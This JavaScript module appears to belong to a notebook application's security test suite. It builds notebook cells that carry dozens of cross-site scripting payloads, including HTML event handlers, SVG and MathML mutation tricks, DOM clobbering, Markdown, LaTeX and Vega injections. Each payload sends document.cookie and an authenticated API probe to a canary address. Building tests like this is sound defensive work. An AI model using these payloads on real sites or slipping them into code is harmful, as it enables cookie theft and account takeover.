/**
 * Attempts to act in the page from what notebooks show. Each says who it is to `top.reached`
 * and to a canary, by whichever way it gets through; `J` is that as a script without double
 * quotes, `U` an address of the canary's.
 */

const act = (id, to) =>
  `try{top.reached=[].concat(top.reached||[],'${id}')}catch(e){};new Image().src='${to}/act/${id}?'+encodeURIComponent(document.cookie);` +
  `fetch('/api/me').then(function(r){return r.ok&&r.text()}).then(function(t){if(t)new Image().src='${to}/api/${id}'})`;

const HTML = {
  script: "<script>J</script>",
  "script in uppercase": "<SCRIPT>J</SCRIPT >",
  "script from elsewhere": "<script src=U></script>",
  "script module": "<script type=module>J</script>",
  "script behind a broken tag": "<<script>J//<</script>",
  "script in a noscript": '<noscript><p title="</noscript><script>J</script>">',
  "image error": '<img src=x onerror="J">',
  "image error with a slash": '<img/src=x/onerror="J">',
  "image load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="J">',
  "picture source": '<picture><source srcset=x><img onerror="J" src=x></picture>',
  "body load": '<body onload="J">',
  "body page show": '<body onpageshow="J">',
  "input focus": '<input autofocus onfocus="J">',
  "select focus": '<select autofocus onfocus="J">',
  "details toggle": '<details open ontoggle="J">x</details>',
  "popover toggle": '<div popover id=p onbeforetoggle="J">x</div><button popovertarget=p>x</button>',
  "video error": '<video><source onerror="J" src=x></video>',
  "audio error": '<audio src=x onerror="J"></audio>',
  "animation end": '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend="J">x</b>',
  "transition end": '<a style="transition:all 1ms" ontransitionend="J" href="#x">x</a>',
  "marquee start": '<marquee onstart="J">x</marquee>',
  "pointer over": '<b onpointerover="J" onmouseover="J">x</b>',
  "content visibility": '<b style="content-visibility:auto" oncontentvisibilityautostatechange="J">x</b>',
  "link to javascript": '<a href="javascript:J">x</a>',
  "link to javascript in pieces": '<a href="java&#10;script&colon;J">x</a>',
  "link to data": '<a href="data:text/html,<script>J</script>">x</a>',
  "svg link to javascript": '<svg><a xlink:href="javascript:J"><text y=20>x</text></a></svg>',
  "svg load": '<svg onload="J"></svg>',
  "svg script": "<svg><script>J</script></svg>",
  "svg script by link": '<svg><script href="data:text/javascript,J"></script></svg>',
  "svg animate": '<svg><animate onbegin="J" attributeName=x dur=1s></svg>',
  "svg set to javascript": '<svg><a><set attributeName=href to="javascript:J" /><text y=20>x</text></a></svg>',
  "svg animate to javascript": '<svg><a><animate attributeName=href values="javascript:J" /><text y=20>x</text></a></svg>',
  "svg use": `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='J'/></svg>#x"></svg>`,
  "svg foreign object": '<svg><foreignObject><img src=x onerror="J"></foreignObject></svg>',
  "svg style breaks out": '<svg><style><img src=x onerror="J"></style></svg>',
  "svg title breaks out": '<svg></p><title><style></title><img src=x onerror="J">',
  "frame with a document": `<iframe srcdoc="&lt;script&gt;J&lt;/script&gt;"></iframe>`,
  "frame to javascript": '<iframe src="javascript:J"></iframe>',
  "frame to elsewhere": "<iframe src=U></iframe>",
  object: '<object data="javascript:J"></object>',
  "object to elsewhere": "<object data=U></object>",
  embed: '<embed src="javascript:J">',
  "embed to elsewhere": "<embed src=U>",
  form: '<form action="javascript:J"><button>x</button></form>',
  "form that acts elsewhere": "<form action=U method=post><input name=q value=1><button>x</button></form>",
  "button of another form": '<form id=f></form><button form=f formaction="javascript:J">x</button>',
  "meta refresh": '<meta http-equiv=refresh content="0;url=U">',
  "meta refresh to javascript": '<meta http-equiv=refresh content="0;url=javascript:J">',
  base: "<base href=U><img src=relative.png>",
  "style link": "<link rel=stylesheet href=U>",
  "link that preconnects": "<link rel=preconnect href=U><link rel=dns-prefetch href=U>",
  "link that preloads": "<link rel=preload as=image href=U>",
  "style that fetches": "<style>@import 'U';b{background:url(U)}</style><b>x</b>",
  "style attribute that fetches": '<b style="background:url(U)">x</b>',
  "style that reads values": "<style>:host-context([data-theme]) *{background:url(U)}</style><b>x</b>",
  "fonts that fetch": "<style>@font-face{font-family:x;src:url(U)}b{font-family:x}</style><b>x</b>",
  "image that fetches": "<img src=U>",
  "link that pings": '<a href="#x" ping=U>x</a>',
  template: "<template><script>J</script></template><script>J</script>",
  "declared shadow root": "<div><template shadowrootmode=open><script>J</script></template></div>",
  "clobbered attributes": '<form id=x tabindex=0 onfocus="J"><input name=attributes><input name=parentNode></form>',
  "clobbered document": '<img name=cookie><img name=getElementById><form name=body id=defaultView><a id=app href="javascript:J">x</a></form>',
  "clobbered configuration": '<a id=__PRELOADED_STATE__ href="cid:J"></a><a id=base href="javascript:J">x</a>',
  "mutation by math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=J&gt;">',
  "mutation by form and math": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="J">',
  "mutation by noscript in svg": '<svg><p><style><g title="</style><img src=x onerror=J>">',
  "mutation by select": '<select><template><style><!--</style></template><a title="--></select><img src=x onerror=J>">',
  "mutation by comment": '<!--<img src="--><img src=x onerror="J">//">',
  "mutation by a deep tree": `${"<div>".repeat(520)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=J>">`,
  "annotation of math": '<math><annotation-xml encoding="text/html"><script>J</script><img src=x onerror="J"></annotation-xml></math>',
  "math link": '<math href="javascript:J"><mi>x</mi></math>',
  "processing instruction": '<?xml-stylesheet type="text/xsl" href="U"?><?x ><img src=x onerror="J">?>',
  "null bytes": '<im\u0000g src=x onerror="J"><scr\u0000ipt>J</scr\u0000ipt>',
  "is attribute": '<p is="x-a" onclick="J" slot="x" part="y">x</p>',
};

const SVG = {
  script: '<svg xmlns="http://www.w3.org/2000/svg"><script>J</script></svg>',
  load: '<svg xmlns="http://www.w3.org/2000/svg" onload="J"/>',
  "an entity": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>J</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  handler: '<svg xmlns="http://www.w3.org/2000/svg"><handler type="application/ecmascript">J</handler></svg>',
  "image that fetches": '<svg xmlns="http://www.w3.org/2000/svg"><image href="U" onerror="J"/></svg>',
  "html in it": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="J"><script>J</script></body></foreignObject></svg>',
};

const MARKDOWN = {
  "html in it": '<img src=x onerror="J">',
  "link to javascript": "[x](javascript:J)",
  "link in pieces": "[x](java&#x0A;script:J)",
  "link to data": "[x](data:text/html;base64,PHNjcmlwdD4x)",
  "link by reference": "[x][y]\n\n[y]: javascript:J",
  "automatic link": "<javascript:J>",
  "image alt": '![" onerror="J](x)',
  "image title": '![x](x "\\" onerror=\\"J")',
  "image that fetches": "![x](U)",
  "code language": '```"><img src=x onerror="J">\nx\n```',
  heading: '# <img src=x onerror="J">',
  "table cell": '| a |\n|---|\n| <img src=x onerror="J"> |',
  formula: '$\\href{javascript:J}{x} \\htmlData{onclick=J}{x} \\includegraphics{U}$',
  "formula with html": '$$\\text{<img src=x onerror="J">}$$',
  "formula that breaks out": "$</span><script>J</script>$",
};

const LATEX = {
  link: "$\\href{javascript:J}{x}$",
  address: "$\\url{javascript:J}$",
  style: "$\\htmlStyle{background:url(U)}{x}\\htmlClass{x}{y}$",
  image: "$\\includegraphics{U}$",
  html: '$\\text{<script>J</script>}$ <img src=x onerror="J">',
  macro: "$\\def\\x{\\x\\x}\\x$",
};

const VEGA = { $schema: "https://vega.github.io/schema/vega/v5.json", width: 20, height: 20 };
const LITE = { $schema: "https://vega.github.io/schema/vega-lite/v5.json", mark: "bar" };

/** Vega's specifications; `J` is within strings of JSON. */
const CHARTS = {
  "signal by a constructor": { ...VEGA, signals: [{ name: "s", init: "event.constructor.constructor('J')()" }] },
  "signal by a format": { ...VEGA, signals: [{ name: "s", init: "toString.constructor('J')()" }] },
  "signal by replace": { ...VEGA, signals: [{ name: "s", init: "replace('x', /x/, toNumber.constructor)('J')" }] },
  "data from elsewhere": { ...VEGA, data: [{ name: "d", url: "U" }] },
  "link of a mark": { ...LITE, data: { values: [{ a: 1 }] }, encoding: { x: { field: "a", type: "quantitative" }, href: { value: "javascript:J" } } },
  "image of a mark": { ...LITE, mark: { type: "image", url: "U" }, data: { values: [{ a: 1 }] }, encoding: { x: { field: "a", type: "quantitative" } } },
  "html in a title": { ...LITE, title: '<img src=x onerror="J">', description: '"><img src=x onerror="J">', data: { values: [{ a: '<img src=x onerror="J">' }] }, encoding: { x: { field: "a", type: "nominal", title: "<script>J</script>" } } },
};

/** Other forms of a value, whole bundles. */
const VALUES = {
  json: { "application/json": { '<img src=x onerror="J">': ["<script>J</script>", { __proto__: 1, constructor: "J" }] } },
  text: { "text/plain": '<img src=x onerror="J">\u001b]8;;javascript:J\u0007link\u001b]8;;\u0007\u001b[31m<script>J</script>' },
  "image type": { 'image/png"><img src=x onerror="J">': "iVBO", "text/plain": "x" },
  "image data": { "image/png": 'x"><img src=x onerror="J">' },
  table: {
    "application/vnd.flownote.table+json": {
      version: 1,
      total: 1,
      width: 1,
      columns: [{ name: '<img src=x onerror="J">', type: "<script>J</script>" }],
      rows: [['<img src=x onerror="J">']],
    },
  },
  "unknown type": { "application/x-<script>J</script>": '<img src=x onerror="J">' },
  javascript: { "application/javascript": "J" },
  plotly: { "application/vnd.plotly.v1+json": { data: [{ y: [1], text: '<a href="javascript:J">x</a>' }], layout: { title: '<img src=x onerror="J">' } } },
  widget: { "application/vnd.jupyter.widget-view+json": { model_id: '"><img src=x onerror="J">' }, "text/plain": "J" },
};

/** Outputs that are no display. */
const OUTPUTS = {
  stream: { output_type: "stream", name: "stdout", text: '<img src=x onerror="J">\u001b[31m<script>J</script>\u001b[0m\n' },
  "stream of many lines": { output_type: "stream", name: "stderr", text: '<img src=x onerror="J">\n'.repeat(60) },
  error: {
    output_type: "error",
    ename: '<img src=x onerror="J">',
    evalue: "<script>J</script>",
    traceback: ['\u001b[31m<img src=x onerror="J">', "<script>J</script>"],
  },
  "image metadata": {
    output_type: "display_data",
    metadata: { "image/png": { alt: '"><img src=x onerror="J">', width: '1" onload="J' } },
    data: { "image/png": "iVBORw0KGgo=" },
  },
  "unknown output": { output_type: '<img src=x onerror="J">', data: { "text/html": "<script>J</script>" } },
};

function filled(value, id, to) {
  const text = JSON.stringify(value);
  const script = JSON.stringify(act(id, to)).slice(1, -1);
  // Within an attribute in double quotes, and within strings of the chart's own language.
  const safe = script.replaceAll("&&", "&amp;&amp;");
  return JSON.parse(text.replace(/\bJ\b/g, () => safe).replace(/\bU\b/g, () => `${to}/got/${id}`));
}

/**
 * Cells `[id, source, outputs | "markdown"]` that try to act, and those among them that are
 * HTML as it is.
 */
export function attacks(to) {
  const cells = [];
  const raw = new Map();
  let number = 0;
  const add = (kind, name, make) => {
    const id = `${kind}${number++}`;
    const cell = make((value) => filled(value, id, to));
    cells.push([id, ...cell]);
    return { id, name: `${kind}: ${name}` };
  };
  const shows = (data, metadata = {}) => [{ output_type: "display_data", metadata, data }];
  const names = [];
  const group = (kind, table, make) => {
    for (const [name, value] of Object.entries(table)) {
      names.push(add(kind, name, (fill) => make(fill(value))));
    }
  };
  group("html", HTML, (text) => ["", shows({ "text/html": text })]);
  for (const [id, , outputs] of cells) raw.set(id, outputs[0].data["text/html"]);
  group("svg", SVG, (text) => ["", shows({ "image/svg+xml": text })]);
  group("markdown", MARKDOWN, (text) => [text, "markdown"]);
  group("shown", MARKDOWN, (text) => ["", shows({ "text/markdown": text })]);
  group("latex", LATEX, (text) => ["", shows({ "text/latex": text })]);
  group("chart", CHARTS, (spec) => {
    const type = spec.mark ? "application/vnd.vegalite.v5+json" : "application/vnd.vega.v5+json";
    return ["", shows({ [type]: spec })];
  });
  group("value", VALUES, (data) => ["", shows(data)]);
  group("output", OUTPUTS, (output) => ["", [output]]);
  group("source", { code: 'x = "</script><img src=x onerror=\\"J\\">"', html: '<img src=x onerror="J">' }, (text) => [text, []]);
  return { cells, raw, names };
}
